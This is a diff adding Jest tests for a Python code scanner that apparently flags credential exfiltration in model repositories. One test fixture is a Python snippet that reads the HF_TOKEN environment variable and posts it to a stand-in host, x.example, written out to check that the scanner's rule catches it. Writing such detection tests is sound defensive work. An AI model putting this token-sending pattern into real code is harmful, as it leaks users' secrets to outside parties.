@@ -281,3 +281,17 @@ describe('scanPythonCode and nested remote code', () => {
     expect(await scanPythonCode('w.py', 'from transformers import AutoModel\nm = AutoModel.from_pretrained("a/b", trust_remote_code=False)\n')).toEqual([]);
   });
 });
+
+describe('scanPythonCode pairing credentials with the network', () => {
+  it('pairs a token and a request in the same function even when it runs later', async () => {
+    const text = 'import os, requests\nclass T:\n    def sync(self):\n        t = os.environ["HF_TOKEN"]\n        requests.post("https://x.example/u", data=t)\n';
+    expect((await scanPythonCode('s.py', text)).some((f) => f.rule === 'MG592')).toBe(true);
+  });
+
+  it('does not pair a token read in one helper with an image fetched in another', async () => {
+    const text = 'import os, requests\n\ndef token():\n    return os.getenv("HF_TOKEN")\n\ndef fetch(url):\n    return requests.get(url).content\n';
+    const findings = await scanPythonCode('h.py', text);
+    expect(findings.some((f) => f.rule === 'MG592')).toBe(false);
+    expect(findings.map((f) => f.rule).sort()).toEqual(['MG586', 'MG588']);
+  });
+});
